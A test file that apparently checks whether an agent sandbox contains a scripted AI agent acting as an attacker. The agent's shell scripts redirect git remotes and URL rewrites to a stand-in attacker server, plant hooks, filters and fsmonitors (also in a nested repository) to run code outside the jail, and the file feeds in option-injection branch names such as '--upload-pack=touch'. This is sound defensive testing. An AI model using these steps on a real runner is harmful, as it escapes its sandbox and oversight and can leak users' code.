import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { say, shell, type FakeScript } from '@threadwork/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createThread, json, waitForTerminal } from '../chaos/support/api.js';
import { Cluster, type ChaosUser } from '../chaos/support/cluster.js';

// The agent as an attacker at the keyboard of its sandbox, against the runner's git: the real
// codex binary, driven by the fake model, runs each attack as a shell command in a real stack
// (every service a process of its own). Each test asserts the attack failed and the run still
// ended as it should.

/** Requests the attacker's server received: nothing of ours may ever reach it. */
const stolen: string[] = [];
let attacker: Server;
let attackerUrl: string;
/** Where a hook or filter writes what ran it, if one ever runs (outside every workspace). */
let marks: string;

/**
 * A command the agent plants in its repository (hooks, a filter, an fsmonitor): when run, it notes
 * the command line of the process that started the git running it, so a test can tell the
 * runner's own git (its parent is the runner) from git commands the agent itself ran.
 */
function markScript(name: string): string {
  return [
    '#!/bin/sh',
    'gp=$(sed "s/.*) //" /proc/$PPID/stat | cut -d" " -f2)',
    `{ echo "${name}"; tr "\\0" " " < /proc/$gp/cmdline; echo; } >> "${marks}/${name}.$$"`,
    'cat',
  ].join('\n');
}

function subvertGit(): string {
  const hooks = [
    'pre-commit',
    'post-commit',
    'pre-push',
    'reference-transaction',
    'post-checkout',
    'post-index-change',
  ];
  const write = (path: string, content: string) => `cat > ${path} <<'EOF'\n${content}\nEOF\nchmod +x ${path}`;
  return [
    'set -e',
    // Every way a push could be sent elsewhere: the remote, a push URL, a rewrite of the real URL
    // (in the repository's config and in the global config under the agent's HOME).
    `git remote set-url origin ${attackerUrl}/stolen.git`,
    `git config remote.origin.pushurl ${attackerUrl}/pushed.git`,
    `git config url.${attackerUrl}/rewritten/.insteadOf file://`,
    `git config --global url.${attackerUrl}/global/.insteadOf file://`,
    // Commands git runs for whoever works the repository: hooks, a clean filter, an fsmonitor.
    ...hooks.map((hook) => write(`.git/hooks/${hook}`, markScript(hook))),
    write('.git/evil-filter', markScript('filter')),
    'git config filter.evil.clean "$PWD/.git/evil-filter"',
    "echo '* filter=evil' > .gitattributes",
    write('.git/evil-fsmonitor', markScript('fsmonitor')),
    'git config core.fsmonitor "$PWD/.git/evil-fsmonitor"',
    'echo "work the runner must still publish" > changed.txt',
    'echo planted',
  ].join('\n');
}

/**
 * A repository nested in the workspace, whose own config names a clean filter and an fsmonitor,
 * set after its commit (so the agent's git never runs them): any git that checks the nested
 * repository for changes — as `git add`, `status` and `commit` of the workspace do for a
 * submodule — runs them, outside the jail if that git is the runner's.
 */
function nestRepository(): string {
  const write = (path: string, content: string) => `cat > ${path} <<'EOF'\n${content}\nEOF\nchmod +x ${path}`;
  return [
    'set -e',
    'git init -q vendored',
    'echo data > vendored/f.txt',
    "echo '* filter=evil' > vendored/.gitattributes",
    'git -C vendored add .',
    'git -C vendored -c user.email=a@b -c user.name=a commit -qm vendored',
    write('vendored/.git/evil-filter', markScript('nested-filter')),
    'git -C vendored config filter.evil.clean "$PWD/vendored/.git/evil-filter"',
    write('vendored/.git/evil-fsmonitor', markScript('nested-fsmonitor')),
    'git -C vendored config core.fsmonitor "$PWD/vendored/.git/evil-fsmonitor"',
    'echo outer > outer.txt',
    'echo nested',
  ].join('\n');
}

const scripts = new Map<string, FakeScript>([
  [
    'SUBVERT',
    (req) => (req.toolOutputsSinceLastUser.length === 0 ? [shell(subvertGit())] : [say('Planted everything.')]),
  ],
  [
    'NEST',
    (req) => (req.toolOutputsSinceLastUser.length === 0 ? [shell(nestRepository())] : [say('Nested a repository.')]),
  ],
  [
    'TOUCH',
    (req) =>
      req.toolOutputsSinceLastUser.length === 0
        ? [shell('echo more >> vendored/f.txt && echo more >> outer.txt')]
        : [say('Changed the nested repository.')],
  ],
]);

let cluster: Cluster;
let user: ChaosUser;

beforeAll(async () => {
  attacker = createServer((req, res) => {
    stolen.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`;
  cluster = await Cluster.start({ runners: 1, scripts });
  marks = join(cluster.dir, 'marks');
  mkdirSync(marks);
  user = cluster.createUser();
});
afterAll(async () => {
  await cluster?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
});

/** What the runner's own git ran of what the agent planted (a mark whose git was started by the runner). */
function runByTheRunner(): string[] {
  return readdirSync(marks)
    .map((name) => readFileSync(join(marks, name), 'utf8'))
    .filter((mark) => mark.includes('runner/dist/main.js'));
}

describe('the runner’s git, against an agent that subverts the workspace repository', () => {
  it('pushes to the repository of the job only, and runs none of the agent’s hooks, filters or config', async () => {
    const name = `subverted-${Date.now()}`;
    const repositoryId = await cluster.addRepo(user, name);
    const thread = await createThread(cluster, user, { repository_id: repositoryId, prompt: 'SUBVERT the git setup' });
    const run = await waitForTerminal(cluster, user, thread.run_id, 120_000);
    expect(run.status, JSON.stringify(run.error)).toBe('completed');

    expect(stolen).toEqual([]);
    expect(runByTheRunner()).toEqual([]);
    // The work reached the real repository, on the thread branch, filter or not.
    const bare = join(cluster.reposDir, `${name}.git`);
    const show = (what: string) => execFileSync('git', ['--git-dir', bare, 'show', what], { encoding: 'utf8' });
    expect(show(`threadwork/${thread.id}:changed.txt`)).toBe('work the runner must still publish\n');
    // And the agent's next run finds a repository of its own again: the planted hooks are gone.
    const workspace = join(cluster.sandboxRoot, thread.id, name);
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-push'))).toBe(false);
  });
});

describe('a repository the agent nests in its workspace', () => {
  it('is left out of what the runner commits, and nothing of its config runs', async () => {
    const name = `nested-${Date.now()}`;
    const repositoryId = await cluster.addRepo(user, name);
    const thread = await createThread(cluster, user, { repository_id: repositoryId, prompt: 'NEST a repository' });
    const first = await waitForTerminal(cluster, user, thread.run_id, 120_000);
    expect(first.status, JSON.stringify(first.error)).toBe('completed');
    // A second run changes a file of the nested repository: checking it for changes is what would
    // run its filter.
    const res = await cluster.fetch(`/v1/threads/${thread.id}/messages`, {
      method: 'POST',
      user,
      body: JSON.stringify({ prompt: 'TOUCH the nested repository' }),
    });
    const { run_id } = await json<{ run_id: string }>(res);
    const second = await waitForTerminal(cluster, user, run_id, 120_000);
    expect(second.status, JSON.stringify(second.error)).toBe('completed');

    // The marks directory is not in the jail: anything there was run outside it.
    expect(readdirSync(marks).filter((mark) => mark.startsWith('nested-'))).toEqual([]);
    const bare = join(cluster.reposDir, `${name}.git`);
    const tree = execFileSync('git', ['--git-dir', bare, 'ls-tree', '-r', `threadwork/${thread.id}`], {
      encoding: 'utf8',
    });
    expect(tree).toContain('outer.txt');
    expect(tree).not.toContain('vendored');
  });
});

describe('a base branch named like an option', () => {
  it('is refused with 400 naming the field, and nothing is created', async () => {
    const repositoryId = await cluster.addRepo(user);
    const pwned = join(cluster.dir, 'pwned');
    const before = await json<{ projects: unknown[] }>(await cluster.fetch('/v1/work', { user }));
    for (const branch of [`--upload-pack=touch ${pwned}`, '-b', 'a..b', 'main lock']) {
      const res = await cluster.fetch('/v1/threads', {
        method: 'POST',
        user,
        body: JSON.stringify({ repository_id: repositoryId, prompt: 'hello', branch }),
      });
      const body = await json<{ error: { code: string; message: string } }>(res);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(body.error.code).toBe('invalid_request');
      expect(body.error.message).toMatch(/^body\.branch: not a branch name/);
    }
    expect(await json(await cluster.fetch('/v1/work', { user }))).toEqual(before);
    expect(existsSync(pwned)).toBe(false);
  });
});
